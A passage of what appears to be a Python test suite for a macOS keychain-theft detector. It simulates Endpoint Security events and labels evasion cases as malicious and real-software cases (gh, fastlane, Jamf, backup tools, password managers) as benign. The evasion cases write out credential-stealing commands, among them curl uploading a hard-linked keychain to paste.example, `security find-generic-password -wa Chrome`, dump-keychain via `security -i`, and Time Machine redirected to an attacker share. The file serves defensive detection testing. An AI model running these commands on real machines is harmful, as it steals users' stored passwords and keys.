    tmp = f"{HOME}/Documents/sync/.login.keychain-db.Xq81Za"
    w.write_new(r, tmp, 2_376_704, fflag=FWRITE | O_CREAT)
    w.rename(r, tmp, f"{HOME}/Documents/sync/login.keychain-db")
    c.exp("keychain_copy", "/usr/bin/rsync", True, "rename", destination_path=f"{HOME}/Documents/sync/login.keychain-db")
    w.exit(r)


@case("evasion_hard_link_neutral_name", "evasion",
      "A hard link under a neutral name (`ln ~/Library/Keychains/login.keychain-db ~/Documents/notes.txt`), then "
      "curl uploads notes.txt: the link and the read of the linked file are followed by the material, not the name.",
      ["https://developer.apple.com/documentation/endpointsecurity/es_event_link_t"])
def e_link(w, c):
    zsh = w.terminal_shell()
    ln = w.spawn(zsh, "/bin/ln", ["ln", LOGIN_KC, f"{HOME}/Documents/notes.txt"])
    link(w, ln, LOGIN_KC, f"{HOME}/Documents/notes.txt")
    c.exp("keychain_copy", "/bin/ln", True, "link")
    w.exit(ln)
    curl = w.spawn(zsh, "/usr/bin/curl", ["curl", "-F", f"f=@{HOME}/Documents/notes.txt", "https://paste.example"])
    raw_read(w, curl, f"{HOME}/Documents/notes.txt")
    c.exp("keychain_read", "/usr/bin/curl", True, "open", target_path=f"{HOME}/Documents/notes.txt")
    w.exit(curl)


@case("evasion_apfs_snapshot_mount_copy", "evasion",
      "Copy from an APFS snapshot mount: `tmutil localsnapshot`, `mount_apfs -s <snap> /System/Volumes/Data "
      "/tmp/snap`, then cp from the snapshot's Keychains folder.",
      ["https://support.apple.com/guide/mac-help/mh35860/mac (tmutil)", "https://ss64.com/mac/tmutil.html"])
def e_snapshot(w, c):
    zsh = w.terminal_shell()
    sudo, m = sudo_run(w, zsh, "/sbin/mount_apfs", ["mount_apfs", "-s", "com.apple.TimeMachine.2026-01-01-120000.local",
                                                    "/System/Volumes/Data", "/tmp/snap"])
    w.exit(m), w.exit(sudo)
    cp = w.spawn(zsh, "/bin/cp", ["cp", SNAP_KC, f"{HOME}/Documents/x.db"])
    raw_read(w, cp, SNAP_KC)
    c.exp("keychain_read", "/bin/cp", True, "open", target_path=SNAP_KC)
    w.exit(cp)


@case("evasion_hdiutil_srcfolder", "evasion",
      "`hdiutil create -srcfolder ~/Library/Keychains -format UDZO /tmp/k.dmg`: a disk image of the Keychains "
      "folder.",
      ["https://ss64.com/mac/hdiutil.html"])
def e_hdiutil(w, c):
    zsh = w.terminal_shell()
    h = w.spawn(zsh, "/usr/bin/hdiutil", ["hdiutil", "create", "-srcfolder", KC_DIR, "-format", "UDZO", "/tmp/k.dmg"])
    raw_read(w, h)
    c.exp("keychain_read", "/usr/bin/hdiutil", True, "open")
    w.exit(h)


@case("evasion_finder_duplicate_neutral_name", "evasion",
      "AppleScript `duplicate` by Finder into Documents under a neutral name (copyfile by an Apple app that acts "
      "for whoever drives it).",
      ["https://www.sentinelone.com/blog/atomic-stealer-threat-actor-spawns-second-variant-of-macos-malware-sold-on-telegram/"])
def e_finder(w, c):
    zsh = w.terminal_shell()
    osa = w.spawn(zsh, "/usr/bin/osascript", ["osascript", "-e", "tell application \"Finder\" to duplicate ..."])
    finder = w.daemon("finder")
    w.copyfile(finder, LOGIN_KC, f"{HOME}/Documents/budget.numbers")
    c.exp("keychain_copy", finder.exe, True, "copyfile")
    w.exit(osa)


@case("evasion_redirect_to_neutral_name", "evasion",
      "Shell redirection to a neutral name: `cat login.keychain-db > ~/Documents/a.txt`.",
      ["https://github.com/redcanaryco/atomic-red-team/blob/master/atomics/T1555.001/T1555.001.md"])
def e_redirect(w, c):
    zsh = w.terminal_shell()
    pre = w.fork(zsh)
    w.create(pre, f"{HOME}/Documents/a.txt")
    cat = w.exec(pre, "/bin/cat", ["cat", LOGIN_KC])
    raw_read(w, cat)
    c.exp("keychain_read", "/bin/cat", True, "open")
    w.exit(cat)


@case("evasion_adhoc_binary_in_agent_folder", "evasion",
      "An ad-hoc binary placed in the management agent's folder and given its signing id reads Chrome's Safe "
      "Storage key: a path and a self-assigned id are not the agent.",
      ["https://github.com/elastic/detection-rules (Jamf path exclusions in macOS keychain rules)"])
def e_fake_agent(w, c):
    a = launch_app(w, FAKE_JAMF, creds=ROOT_DAEMON, asid=g.SYS_ASID)
    sec_via_sh(w, a, ["security", "find-generic-password", "-wa", "Chrome"])
    c.exp("find_generic_password", SEC, True)
    w.exit(a)


@case("evasion_genuine_mdm_pushes_chrome_read", "evasion",
      "A genuine Jamf agent (team 483DWKW443) runs a policy script pushed by an attacker with MDM rights: "
      "`security find-generic-password -wa Chrome`. Agent rules excuse its own items, not another program's.",
      ["https://github.com/elastic/detection-rules", "https://learn.jamf.com/ (policies run scripts as root)"])
def e_mdm_chrome(w, c):
    jamf = launch_app(w, JAMF, creds=ROOT_DAEMON, asid=g.SYS_ASID)
    zsh = w.spawn(jamf, "/bin/zsh", ["/bin/zsh", "/Library/Application Support/JAMF/tmp/inventory.sh"])
    sec_direct(w, zsh, ["security", "find-generic-password", "-wa", "Chrome"])
    c.exp("find_generic_password", SEC, True)
    w.exit(zsh), w.exit(jamf)


@case("evasion_genuine_mdm_pushes_wifi_read", "evasion",
      "A genuine Jamf agent runs a pushed script that reads a Wi-Fi password from the System keychain.",
      ["https://ss64.com/mac/security-find-generic-password.html"])
def e_mdm_wifi(w, c):
    jamf = launch_app(w, JAMF, creds=ROOT_DAEMON, asid=g.SYS_ASID)
    zsh = w.spawn(jamf, "/bin/zsh", ["/bin/zsh", "/Library/Application Support/JAMF/tmp/net.sh"])
    sec_direct(w, zsh, ["security", "find-generic-password", "-D", "AirPort network password", "-a", "CorpWiFi",
                        "-w", SYS_KC])
    c.exp("find_generic_password", SEC, True)
    w.exit(zsh), w.exit(jamf)


@case("evasion_fork_then_parent_execs_agent", "evasion",
      "A stealer forks, then the parent pid execs a genuine signed agent; the forked child runs `security -i`. "
      "Ancestry is the image that spawned the child at fork time, not the parent pid's current image.",
      ["https://developer.apple.com/documentation/endpointsecurity/es_event_fork_t"])
def e_fork_exec(w, c):
    stealer = launch_app(w, AMOS_DMG)
    child = w.fork(stealer)
    agent = w.exec(stealer, JAMF, [JAMF, "policy"])
    # ES names the parent by its current audit token: the agent image.
    child.parent_tok = agent.token()
    sec = w.exec(child, SEC, ["security", "-i"])
    c.exp("security_interactive", SEC, True)
    w.exit(sec)


@case("evasion_fork_then_parent_execs_agent_no_fork_events", "evasion",
      "The fork-then-exec laundering on a capture without fork events (eslogger run with exec and file events "
      "only): the child's pre-exec image still runs the stealer, which the agent's exec replaced.",
      ["https://developer.apple.com/documentation/endpointsecurity/es_event_exec_t"], forks=False)
def e_fork_exec_nofork(w, c):
    zsh = w.terminal_shell(cwd="/private/tmp")
    stealer = w.spawn(zsh, METASTEALER, [METASTEALER])
    child = w.fork(stealer)
    agent = w.exec(stealer, JAMF, [JAMF, "policy"])
    # The kernel's pidversion counter is global (bumped at fork and exec):
    # the agent's exec, after the fork, gets a later one than the child's.
    agent.pv = child.pv + 1
    w.lines[-1]["event"]["exec"]["target"]["audit_token"] = w.tok(agent.token())
    child.parent_tok = agent.token()
    sec = w.exec(child, SEC, ["security", "-i"])
    c.exp("security_interactive", SEC, True)
    w.exit(sec)


@case("evasion_self_signed_com_apple_v9", "evasion",
      "A self-signed binary claiming a com.apple. signing id (no team id, valid signature, not a platform binary) "
      "reads login.keychain-db on message version 9, where ES cannot say who signed it.",
      ["https://developer.apple.com/documentation/endpointsecurity/es_process_t/cs_validation_category"])
def e_fake_apple(w, c):
    a = launch_app(w, FAKE_APPLE)
    raw_read(w, a)
    c.exp("keychain_read", FAKE_APPLE, True, "open")
    w.exit(a)


@case("evasion_fastlane_lookalike", "evasion",
      "A look-alike named fastlane (ad hoc, in ~/.gem/bin) reads Chrome's Safe Storage key: a command line that "
      "says fastlane is not fastlane.",
      ["https://github.com/fastlane/fastlane"])
def e_fastlane(w, c):
    zsh = w.terminal_shell()
    f = w.spawn(zsh, FAKE_FASTLANE, ["fastlane", "match", "development"])
    sec_via_sh(w, f, ["security", "find-generic-password", "-ga", "Chrome Safe Storage"])
    c.exp("find_generic_password", SEC, True)
    w.exit(f)


@case("evasion_time_machine_attacker_destination", "evasion",
      "`sudo tmutil setdestination -a smb://...` to a share the attacker controls, then backupd copies the "
      "keychain into that store: Time Machine's copies are excused only to destinations the fleet declares.",
      ["https://ss64.com/mac/tmutil.html"])
def e_tm(w, c):
    zsh = w.terminal_shell()
    sudo, t = sudo_run(w, zsh, "/usr/bin/tmutil", ["tmutil", "setdestination", "-a", "smb://u:pw@198.51.100.7/tm"])
    w.exit(t), w.exit(sudo)
    bd = w.daemon("backupd")
    dst = "/Volumes/.timemachine/198.51.100.7/tm/2026-01-01-120000.backup/Data/Users/alice/Library/Keychains/login.keychain-db"
    raw_read(w, bd)
    w.create(bd, dst)
    c.exp("keychain_copy", bd.exe, True, "create", destination_path=dst)


@case("evasion_mail_attachment_applescript", "evasion",
      "AppleScript makes Mail attach login.keychain-db to an outgoing message: Mail reads the file for whoever "
      "drives it.",
      ["https://developer.apple.com/library/archive/documentation/AppleScript/Conceptual/AppleScriptLangGuide/"])
def e_mail(w, c):
    zsh = w.terminal_shell()
    osa = w.spawn(zsh, "/usr/bin/osascript", ["osascript", "-e", "tell application \"Mail\" to make new attachment ..."])
    mail = launch_app(w, "/System/Applications/Mail.app/Contents/MacOS/Mail")
    raw_read(w, mail)
    c.exp("keychain_read", "/System/Applications/Mail.app/Contents/MacOS/Mail", True, "open")
    w.exit(osa)


@case("evasion_renamed_cp", "evasion",
      "Apple's cp copied to ~/bin/notes (still a platform binary with signing id com.apple.cp) reads the keychain.",
      ["https://attack.mitre.org/techniques/T1036/003/"])
def e_renamed_cp(w, c):
    zsh = w.terminal_shell()
    n = w.spawn(zsh, RENAMED_CP, ["notes", LOGIN_KC, f"{HOME}/Documents/n.db"])
    raw_read(w, n)
    c.exp("keychain_read", RENAMED_CP, True, "open")
    w.exit(n)


SHOVE = "/System/Library/PrivateFrameworks/PackageKit.framework/Versions/A/Resources/shove"
IMG(SHOVE, "com.apple.shove")


@case("evasion_apple_file_copier_outside_cli_folders", "evasion",
      "An Apple platform binary outside /bin and /usr/bin that copies files (PackageKit's shove) run from a "
      "shell: Apple code driven by a script is a tool, not the keychain API.",
      ["https://attack.mitre.org/techniques/T1218/ (signed binary proxy execution)"])
def e_shove(w, c):
    zsh = w.terminal_shell()
    sudo, sh = sudo_run(w, zsh, SHOVE, ["shove", LOGIN_KC, "/private/var/tmp/cache.db"])
    raw_read(w, sh)
    w.write_new(sh, "/private/var/tmp/cache.db", 2_376_704, fflag=FWRITE | O_CREAT)
    c.exp("keychain_read", SHOVE, True, "open")
    w.exit(sh), w.exit(sudo)


@case("evasion_security_interactive_from_python", "evasion",
      "`security -i` fed from a python one-liner (commands hidden from argv).",
      ["https://github.com/apple-oss-distributions/Security (SecurityTool/macOS/security.c -i)"])
def e_sec_i(w, c):
    zsh = w.terminal_shell()
    py = w.spawn(zsh, "/usr/bin/python3", ["python3", "-c", "import subprocess;subprocess.run(['security','-i'],input=b'dump-keychain -d\\n')"])
    sec_direct(w, py, ["security", "-i"])
    c.exp("security_interactive", SEC, True)
    w.exit(py)


@case("evasion_dropper_exits_before_child_reads", "evasion",
      "An unsigned dropper starts a signed-looking helper and exits before the helper reads the keychain: the "
      "ancestry recorded at exec still shows the dropper.",
      ["https://developer.apple.com/documentation/endpointsecurity/es_event_exit_t"])
def e_dropper(w, c):
    d = launch_app(w, AMOS_DMG)
    cp = w.spawn(d, "/bin/cp", ["cp", LOGIN_KC, f"{HOME}/Library/Caches/x.db"])
    w.exit(d)
    raw_read(w, cp)
    c.exp("keychain_read", "/bin/cp", True, "open")
    w.exit(cp)


@case("evasion_security_abbreviated_verb", "evasion",
      "Abbreviated verb and global option: `security -q find-generic -w -s \"Chrome Safe Storage\"` "
      "(security(1) resolves verbs by prefix).",
      ["https://github.com/apple-oss-distributions/Security (SecurityTool/macOS/security.c, command table)"])
def e_abbrev(w, c):
    zsh = w.terminal_shell()
    sec_direct(w, zsh, ["security", "-q", "find-generic", "-w", "-s", "Chrome Safe Storage"])
    c.exp("find_generic_password", SEC, True)


@case("evasion_import_shape_from_a_shell", "evasion",
      "The password-manager import shape faked from a signed app's shell: the app runs `sh -c 'security "
      "find-generic-password -wa Chrome'` (a shell between the app and security is not an import helper).",
      ["https://github.com/elastic/detection-rules/blob/main/rules/macos/credential_access_keychain_pwd_retrieval_security_cmd.toml"])
def e_import_sh(w, c):
    a = launch_app(w, SIGNED_STEALER)
    sec_via_sh(w, a, ["security", "find-generic-password", "-wa", "Chrome"])
    c.exp("find_generic_password", SEC, True)
    w.exit(a)


@case("evasion_signed_app_unnamed_reveal", "evasion",
      "A Developer ID signed app runs `security find-generic-password -w` with no item named (whatever matches "
      "first): signing does not excuse an unnamed secret read.",
      ["https://ss64.com/mac/security-find-generic-password.html"])
def e_unnamed(w, c):
    a = launch_app(w, SIGNED_STEALER)
    sec_direct(w, a, ["security", "find-generic-password", "-a", "alice", "-w"])
    c.exp("find_generic_password", SEC, True)
    w.exit(a)


# =============================================================================================
# Benign: real software doing its job
# =============================================================================================

@case("go_keyring_get_gh", "benign",
      "zalando/go-keyring Get, as GitHub CLI (gh) stores its token: `security find-generic-password -s "
      "gh:github.com -wa octocat`, run by gh itself.",
      ["https://github.com/zalando/go-keyring/blob/master/keyring_darwin.go", "https://github.com/cli/cli"])
def b_gh_get(w, c):
    zsh = w.terminal_shell()
    gh = w.spawn(zsh, GH, ["gh", "pr", "list"])
    sec_direct(w, gh, ["security", "find-generic-password", "-s", "gh:github.com", "-wa", "octocat"])
    c.exp("find_generic_password", SEC, False)
    w.exit(gh)


@case("go_keyring_set_gh", "benign",
      "zalando/go-keyring Set: `security -i` with `add-generic-password -U -s ... -a ... -w ...` on stdin "
      "(keeps the password out of argv), run by gh auth login.",
      ["https://github.com/zalando/go-keyring/blob/master/keyring_darwin.go"])
def b_gh_set(w, c):
    zsh = w.terminal_shell()
    gh = w.spawn(zsh, GH, ["gh", "auth", "login"])
    sec_direct(w, gh, ["security", "-i"])
    c.exp("security_interactive", SEC, False)
    w.exit(gh)


@case("go_keyring_homebrew_gh_get", "benign",
      "go-keyring Get from a Homebrew-built gh (ad hoc / linker-signed on Apple silicon): one named item of its "
      "own service.",
      ["https://github.com/zalando/go-keyring/blob/master/keyring_darwin.go",
       "https://github.com/Homebrew/homebrew-core/blob/master/Formula/g/gh.rb"])
def b_gh_brew(w, c):
    zsh = w.terminal_shell()
    gh = w.spawn(zsh, "/opt/homebrew/Cellar/gh/2.63.0/bin/gh", ["gh", "repo", "view"])
    sec_direct(w, gh, ["security", "find-generic-password", "-s", "gh:github.com", "-wa", "octocat"])
    c.exp("find_generic_password", SEC, False)
    w.exit(gh)


@case("go_keyring_list_dump_without_d", "benign",
      "A Go CLI using go-keyring-style listing: `security dump-keychain` without -d (attributes only).",
      ["https://github.com/zalando/go-keyring/blob/master/keyring_darwin.go"])
def b_gk_list(w, c):
    zsh = w.terminal_shell()
    gh = w.spawn(zsh, GH, ["gh", "auth", "status"])
    sec_direct(w, gh, ["security", "dump-keychain"])
    c.exp("dump_keychain", SEC, False)
    w.exit(gh)


@case("homebrew_ca_certificates_postinstall", "benign",
      "Homebrew ca-certificates post-install: `security find-certificate -a -p` over the System and root "
      "certificate keychains to build its bundle.",
      ["https://github.com/Homebrew/homebrew-core/blob/master/Formula/c/ca-certificates.rb"])
def b_brew_ca(w, c):
    zsh = w.terminal_shell()
    rb = w.spawn(zsh, HB_RUBY, ["ruby", "/opt/homebrew/Library/Homebrew/brew.rb", "postinstall", "ca-certificates"])
    for kc in (SYS_KC, ROOT_CERTS):
        sec_direct(w, rb, ["security", "find-certificate", "-a", "-p", kc])
    c.exp("find_certificate", SEC, False)
    w.exit(rb)


@case("proxy_ca_bundle_script", "benign",
      "Corporate proxy CA bundle script (run by launchd as root): `security find-certificate -a -p "
      "/Library/Keychains/System.keychain > /usr/local/etc/ca-bundle.pem`.",
      ["https://help.zscaler.com/zia/adding-custom-certificate-application-specific-trust-store"])
def b_proxy_ca(w, c):
    sh = w.launchd_spawn("/bin/sh", ["/bin/sh", "/Library/Scripts/corp/update-ca-bundle.sh"], ROOT_DAEMON, g.SYS_ASID,
                         "com.corp.cabundle")
    sec_via_sh(w, sh, ["security", "find-certificate", "-a", "-p", SYS_KC])
    c.exp("find_certificate", SEC, False)
    w.exit(sh)


@case("fastlane_cert_checker", "benign",
      "fastlane cert_checker: `security find-certificate -a -c \"Apple Worldwide Developer Relations\" -p "
      "<keychain>` through sh from ruby.",
      ["https://github.com/fastlane/fastlane/blob/master/fastlane_core/lib/fastlane_core/cert_checker.rb"])
def b_fl_cert(w, c):
    zsh = w.terminal_shell()
    rb = w.spawn(zsh, "/usr/bin/ruby", ["ruby", "/usr/local/bin/fastlane", "match", "appstore"])
    sec_via_sh(w, rb, ["security", "find-certificate", "-a", "-c", "Apple Worldwide Developer Relations", "-p",
                       f"{KC_DIR}/login.keychain-db"])
    c.exp("find_certificate", SEC, False)
    w.exit(rb)


@case("fastlane_credentials_manager", "benign",
      "fastlane CredentialsManager reads its own Apple ID item: `security find-internet-password -g -s "
      "deliver.dev@example.com` through sh from ruby.",
      ["https://github.com/fastlane/fastlane/blob/master/credentials_manager/lib/credentials_manager/account_manager.rb"])
def b_fl_cred(w, c):
    zsh = w.terminal_shell()
    rb = w.spawn(zsh, "/usr/bin/ruby", ["ruby", "/usr/local/bin/fastlane", "deliver"])
    sec_via_sh(w, rb, ["security", "find-internet-password", "-g", "-s", "deliver.dev@example.com"])
    c.exp("find_internet_password", SEC, False)
    w.exit(rb)


@case("fastlane_create_keychain", "benign",
      "fastlane create_keychain / unlock_keychain / import_certificate: create-keychain, set-keychain-settings, "
      "unlock-keychain, import, set-key-partition-list.",
      ["https://github.com/fastlane/fastlane/blob/master/fastlane/lib/fastlane/actions/create_keychain.rb",
       "https://github.com/fastlane/fastlane/blob/master/fastlane_core/lib/fastlane_core/keychain_importer.rb"])
def b_fl_kc(w, c):
    zsh = w.terminal_shell()
    rb = w.spawn(zsh, "/usr/bin/ruby", ["ruby", "/usr/local/bin/fastlane", "beta"])
    kc = f"{KC_DIR}/fastlane_tmp_keychain-db"
    for argv in (["security", "create-keychain", "-p", "ciKCpw", "fastlane_tmp_keychain"],
                 ["security", "set-keychain-settings", "-lut", "21600", "fastlane_tmp_keychain"],
                 ["security", "unlock-keychain", "-p", "ciKCpw", "fastlane_tmp_keychain"],
                 ["security", "import", "cert.p12", "-k", kc, "-P", "p12pw", "-T", "/usr/bin/codesign"],
                 ["security", "set-key-partition-list", "-S", "apple-tool:,apple:", "-s", "-k", "ciKCpw", kc]):
        sec_via_sh(w, rb, argv)
    c.secret("ciKCpw", "p12pw")
    c.exp("create_keychain", SEC, False)
    w.exit(rb)


@case("gha_import_codesign_certs", "benign",
      "Apple-Actions/import-codesign-certs on a GitHub-hosted runner: node runs security create-keychain, import, "
      "set-key-partition-list, list-keychains directly.",
      ["https://github.com/Apple-Actions/import-codesign-certs/blob/master/src/security.ts"])
def b_gha(w, c):
    listener = w.launchd_spawn("/Users/runner/actions-runner/bin/Runner.Listener",
                               ["/Users/runner/actions-runner/bin/Runner.Listener", "run"], g.RUNNER_DAEMON,
                               g.SYS_ASID, "actions.runner.org.mac-1")
    worker = w.spawn(listener, "/Users/runner/actions-runner/bin/Runner.Worker",
                     ["/Users/runner/actions-runner/bin/Runner.Worker", "spawnclient", "123", "456"])
    node = w.spawn(worker, "/Users/runner/actions-runner/externals/node20/bin/node",
                   ["/Users/runner/actions-runner/externals/node20/bin/node",
                    "/Users/runner/work/_actions/apple-actions/import-codesign-certs/v3/dist/index.js"])
    for argv in (["security", "create-keychain", "-p", "kcPW1", "signing_temp.keychain"],
                 ["security", "import", "/Users/runner/work/_temp/cert.p12", "-k", "signing_temp.keychain", "-f",
                  "pkcs12", "-A", "-T", "/usr/bin/codesign", "-P", "certPW1"],
                 ["security", "set-key-partition-list", "-S", "apple-tool:,apple:", "-k", "kcPW1",
                  "signing_temp.keychain"],
                 ["security", "list-keychains", "-d", "user", "-s", "signing_temp.keychain", "login.keychain"]):
        sec_direct(w, node, argv)
    c.secret("kcPW1", "certPW1")
    c.exp("import", SEC, False)
    w.exit(node), w.exit(worker)


@case("jamf_laps_reads_own_item", "benign",
      "Jamf policy script (LAPS rotation) reads its own item: `security find-generic-password -s JSSCID -w`.",
      ["https://github.com/ecubrooks/Jamf-Scripts"])
def b_jamf(w, c):
    jamf = launch_app(w, JAMF, creds=ROOT_DAEMON, asid=g.SYS_ASID)
    zsh = w.spawn(jamf, "/bin/zsh", ["/bin/zsh", "/Library/Application Support/JAMF/tmp/laps-rotate.sh"])
    sec_direct(w, zsh, ["security", "find-generic-password", "-s", "JSSCID", "-w"])
    c.exp("find_generic_password", SEC, False)
    w.exit(zsh), w.exit(jamf)


@case("munki_client_keychain", "benign",
      "Munki keychain.py: creates and unlocks its own keychain for client certificates, imports the identity.",
      ["https://github.com/munki/munki/blob/main/code/client/munkilib/keychain.py"])
def b_munki(w, c):
    py = w.launchd_spawn(MUNKI_PY, [MUNKI_PY, "/usr/local/munki/managedsoftwareupdate", "--auto"], ROOT_DAEMON,
                         g.SYS_ASID, "com.googlecode.munki.managedsoftwareupdate-check")
    kc = "/Library/Managed Installs/munki.keychain"
    for argv in (["security", "create-keychain", "-p", "mkPW", kc],
                 ["security", "unlock-keychain", "-p", "mkPW", kc],
                 ["security", "import", "/Library/Managed Installs/certs/client.pem", "-A", "-k", kc],
                 ["security", "list-keychains", "-d", "user", "-s", kc]):
        sec_direct(w, py, argv)
    c.secret("mkPW")
    c.exp("create_keychain", SEC, False)
    w.exit(py)


@case("time_machine_backup", "benign",
      "Time Machine (backupd) reads the keychains and writes them into its backup store on the declared "
      "destination.",
      ["https://support.apple.com/en-us/104984"])
def b_tm(w, c):
    bd = w.daemon("backupd")
    raw_read(w, bd)
    dst = "/Volumes/.timemachine/NAS/tm/2026-01-01-120000.backup/2026-01-01-120000.backup/Data/Users/alice/Library/Keychains/login.keychain-db"
    w.create(bd, dst)
    c.exp("keychain_copy", bd.exe, False, "create")


@case("carbon_copy_cloner_backup", "benign",
      "Carbon Copy Cloner's privileged helper (Developer ID, team L5N2X4X9F2) mirrors the Data volume, "
      "Keychains folder included, to a backup volume.",
      ["https://bombich.com/kb/ccc6/how-set-up-your-first-backup"])
def b_ccc(w, c):
    h = w.launchd_spawn(CCC, [CCC], ROOT_DAEMON, g.SYS_ASID, "com.bombich.ccchelper")
    for src in (LOGIN_KC, f"{KC_DIR}/metadata.keychain-db"):
        raw_read(w, h, src)
        dst = "/Volumes/CCC Backup" + src
        w.write_new(h, dst, 2_000_000, fflag=FWRITE | O_CREAT)
    c.exp("keychain_copy", CCC, False, "create")
    w.exit(h)


@case("carbon_copy_cloner_reads_snapshot", "benign",
      "Carbon Copy Cloner backs up from an APFS snapshot of the source it mounts: its helper reads the keychain "
      "files below the snapshot's mount point.",
      ["https://bombich.com/kb/ccc6/leveraging-snapshots-on-apfs-formatted-destinations"])
def b_ccc_snap(w, c):
    h = w.launchd_spawn(CCC, [CCC], ROOT_DAEMON, g.SYS_ASID, "com.bombich.ccchelper")
    src = "/Volumes/com.bombich.ccc.snapshot.Data" + LOGIN_KC
    raw_read(w, h, src)
    c.exp("keychain_read", CCC, False, "open", target_path=src)
    w.exit(h)


@case("superduper_backup", "benign",
      "SuperDuper! (Developer ID) copies the user's files with copyfile to a bootable backup volume.",
      ["https://www.shirt-pocket.com/SuperDuper/SuperDuperDescription.html"])
def b_sd(w, c):
    h = w.launchd_spawn(SUPERDUPER, [SUPERDUPER], ROOT_DAEMON, g.SYS_ASID, "com.blacey.SDCopy")
    w.copyfile(h, LOGIN_KC, "/Volumes/SD Backup" + LOGIN_KC)
    c.exp("keychain_copy", SUPERDUPER, False, "copyfile")
    w.exit(h)


@case("arq_backup_reads", "benign",
      "Arq Agent (Developer ID) reads the keychain files read-only to back them up (encrypted chunks, no plain "
      "copy).",
      ["https://www.arqbackup.com/documentation/"])
def b_arq(w, c):
    a = w.launchd_spawn(ARQ, [ARQ], ROOT_DAEMON, g.SYS_ASID, "com.haystacksoftware.ArqAgent")
    raw_read(w, a)
    c.exp("keychain_read", ARQ, False, "open")
    w.exit(a)


@case("backblaze_backup_reads", "benign",
      "Backblaze bztransmit (Developer ID) reads files read-only for upload, the Keychains folder included.",
      ["https://www.backblaze.com/computer-backup/docs"])
def b_bz(w, c):
    a = w.launchd_spawn(BZ, [BZ], ROOT_DAEMON, g.SYS_ASID, "com.backblaze.bzserv")
    raw_read(w, a)
    c.exp("keychain_read", BZ, False, "open")
    w.exit(a)


@case("onepassword_chrome_import", "benign",
      "1Password (Developer ID, team 2BUA8C4S2C) imports Chrome passwords: it reads Chrome's Safe Storage key "
      "through the keychain API, which opens login.keychain-db in-process.",
      ["https://support.1password.com/import-chrome/"])
def b_1p(w, c):
    a = launch_app(w, ONEPW)
    raw_read(w, a)
    c.exp("keychain_read", ONEPW, False, "open")
    w.exit(a)


@case("keeper_browser_import", "benign",
      "Keeper desktop (Developer ID) imports browser passwords through the keychain API (read-only open).",
      ["https://docs.keeper.io/en/user-guides/import-records-1/import-from-web-browsers"])
def b_keeper(w, c):
    a = launch_app(w, KEEPER)
    raw_read(w, a)
    c.exp("keychain_read", KEEPER, False, "open")
    w.exit(a)


KEEPER_HELPER = ("/Applications/Keeper Password Manager.app/Contents/Frameworks/Keeper Password Manager Helper.app/"
                 "Contents/MacOS/Keeper Password Manager Helper")
IMG(KEEPER_HELPER, "com.keepersecurity.passwordmanager.helper", "devid", "ILLUSTRKEEP")


@case("keeper_helper_security_chrome_import", "benign",
      "Keeper Password Manager Helper (Developer ID) imports Chrome passwords by running `security "
      "find-generic-password -wa Chrome` itself; Elastic's browser-password rules exclude exactly this parent.",
      ["https://github.com/elastic/detection-rules/blob/main/rules/macos/credential_access_keychain_pwd_retrieval_security_cmd.toml",
       "https://docs.keeper.io/en/user-guides/import-records-1/import-from-web-browsers"])
def b_keeper_helper(w, c):
    app = launch_app(w, KEEPER)
    helper = w.spawn(app, KEEPER_HELPER, [KEEPER_HELPER, "--type=utility"])
    sec_direct(w, helper, ["security", "find-generic-password", "-wa", "Chrome"])
    c.exp("find_generic_password", SEC, False)
    w.exit(helper), w.exit(app)


@case("bitwarden_desktop_import", "benign",
      "Bitwarden desktop (Electron, Developer ID) importing from Chrome reads the Safe Storage key via the API.",
      ["https://bitwarden.com/help/import-from-chrome/"])
def b_bw(w, c):
    a = launch_app(w, BITWARDEN)
    raw_read(w, a)
    c.exp("keychain_read", BITWARDEN, False, "open")
    w.exit(a)


@case("onepassword_cli_reads_own", "benign",
      "1Password CLI `op` (Developer ID) opens the login keychain read-only for its own item.",
      ["https://developer.1password.com/docs/cli/"])
def b_op(w, c):
    zsh = w.terminal_shell()
    op = w.spawn(zsh, "/usr/local/bin/op", ["op", "item", "list"])
    raw_read(w, op)
    c.exp("keychain_read", "/usr/local/bin/op", False, "open")
    w.exit(op)


@case("chrome_reads_own_safe_storage", "benign",
      "Google Chrome (Developer ID, team EQHXZ8M8AV) reads its own Safe Storage key at start: the API opens "
      "login.keychain-db in Chrome's process.",
      ["https://chromium.googlesource.com/chromium/src/+/main/components/os_crypt/sync/keychain_password_mac.mm"])
def b_chrome(w, c):
    a = launch_app(w, CHROME)
    raw_read(w, a)
    c.exp("keychain_read", CHROME, False, "open")
    w.exit(a)


@case("slack_reads_own_safe_storage", "benign",
      "Slack (Electron, Developer ID) reads its own Safe Storage item via the API (Electron safeStorage).",
      ["https://www.electronjs.org/docs/latest/api/safe-storage"])
def b_slack(w, c):
    a = launch_app(w, SLACK)
    raw_read(w, a)
    c.exp("keychain_read", SLACK, False, "open")
    w.exit(a)


@case("vscode_helper_reads_keychain", "benign",
      "Visual Studio Code's helper (Developer ID, Microsoft) reads stored credentials through the keychain API "
      "(an IDE in Elastic's keychain-file rule exclusions).",
      ["https://github.com/elastic/detection-rules/tree/main/rules/macos",
       "https://code.visualstudio.com/docs/editor/settings-sync#_troubleshooting-keychain-issues"])
def b_vscode(w, c):
    code = launch_app(w, CODE_HELPER)
    raw_read(w, code)
    c.exp("keychain_read", CODE_HELPER, False, "open")
    w.exit(code)


@case("jetbrains_ide_reads_keychain", "benign",
      "IntelliJ IDEA (Developer ID, JetBrains) stores passwords in the macOS keychain (read-only API open).",
      ["https://www.jetbrains.com/help/idea/reference-ide-settings-password-safe.html"])
def b_idea(w, c):
    a = launch_app(w, IDEA)
    raw_read(w, a)
    c.exp("keychain_read", IDEA, False, "open")
    w.exit(a)


@case("android_emulator_reads_keychain", "benign",
      "Android emulator's qemu (Developer ID, Google) opens the login keychain read-only (emulators are in "
      "Elastic's exclusions).",
      ["https://github.com/elastic/detection-rules/tree/main/rules/macos"])
def b_qemu(w, c):
    zsh = w.terminal_shell()
    q = w.spawn(zsh, QEMU, ["qemu-system-aarch64", "-avd", "Pixel_8"])
    raw_read(w, q)
    c.exp("keychain_read", QEMU, False, "open")
    w.exit(q)


@case("docker_credential_osxkeychain", "benign",
      "docker-credential-osxkeychain (Developer ID, Docker) reads registry credentials through the API.",
      ["https://github.com/docker/docker-credential-helpers/tree/master/osxkeychain"])
def b_docker(w, c):
    zsh = w.terminal_shell()
    d = w.spawn(zsh, DOCKER_CRED, ["docker-credential-osxkeychain", "get"])
    raw_read(w, d)
    c.exp("keychain_read", DOCKER_CRED, False, "open")
    w.exit(d)


@case("dbeaver_sql_tool_reads_keychain", "benign",
      "DBeaver (Developer ID) keeps connection passwords in the macOS keychain (SQL tools are in Elastic's "
      "exclusions).",
